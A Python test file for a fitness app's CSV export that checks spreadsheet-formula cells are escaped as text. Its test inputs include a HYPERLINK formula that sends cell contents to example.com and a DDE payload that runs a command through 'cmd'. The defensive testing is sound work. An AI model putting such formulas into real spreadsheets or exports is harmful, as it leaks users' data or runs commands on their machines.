"""Sessions written for spreadsheets: text that would run as a formula stays text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from hipcoach.application.exports import write_csv
from hipcoach.core.records import Session, Status

STARTED = datetime(2026, 5, 11, 6, 0, tzinfo=UTC)


def session(routine: str, name: str, notes: str | None) -> Session:
    return Session(
        id=7,
        routine_id=routine,
        routine_name=name,
        routine_path=f"/r/{routine}.toml",
        started_at=STARTED,
        ended_at=None,
        updated_at=STARTED,
        status=Status.STOPPED,
        active_seconds=61.0,
        paused_seconds=0.0,
        work_done=1,
        work_total=3,
        pain_before=None,
        pain_after=2,
        effort=None,
        notes=notes,
    )


def cells(sessions: list[Session]) -> list[dict[str, str]]:
    out = io.StringIO()
    write_csv(sessions, out)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.com/?"&A1, "click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tpadded",
        "\rreturned",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(text: str) -> None:
    (row,) = cells([session(text, text, text)])
    assert row["routine"] == row["name"] == row["notes"] == "'" + text


def test_other_cells_are_written_as_they_are() -> None:
    (row,) = cells([session("hip-flow", "Hip flow", "felt 10/10 = great; -ish")])
    assert (row["routine"], row["name"], row["notes"]) == (
        "hip-flow",
        "Hip flow",
        "felt 10/10 = great; -ish",
    )
    assert (row["active_seconds"], row["pain_after"], row["effort"]) == ("61", "2", "")


def test_a_carriage_return_inside_a_note_keeps_its_row_whole() -> None:
    rows = cells([session("a", "A", "first\rsecond\r\nthird"), session("b", "B", None)])
    assert [(r["routine"], r["notes"]) for r in rows] == [
        ("a", "first\rsecond\r\nthird"),
        ("b", ""),
    ]


def test_every_text_cell_of_a_phase_row_is_made_safe_too() -> None:
    from hipcoach.application.exports import PHASE_FIELDS, write_phases_csv
    from hipcoach.core.model import Side
    from hipcoach.core.records import Unit, WorkOutcome, WorkPhase

    work = WorkPhase(
        3, "=1+1 bridges", Side.LEFT, 2, Unit.REPS, 12, 11, WorkOutcome.DONE, STARTED,
        STARTED, 30.0, pain=True, exercise_id="-bridges", round=2,
    )  # fmt: skip
    out = io.StringIO()
    assert write_phases_csv([(session("@hips", "+Hips", "=x"), work)], out) == 1
    (row,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    assert list(row) == list(PHASE_FIELDS)
    assert (row["routine"], row["exercise_id"], row["exercise"]) == (
        "'@hips",
        "'-bridges",
        "'=1+1 bridges",
    )
    assert (row["set"], row["round"], row["target"], row["done"]) == ("2", "2", "12", "11")
    assert (row["side"], row["unit"], row["outcome"], row["hurt"]) == (
        "left",
        "reps",
        "done",
        "true",
    )
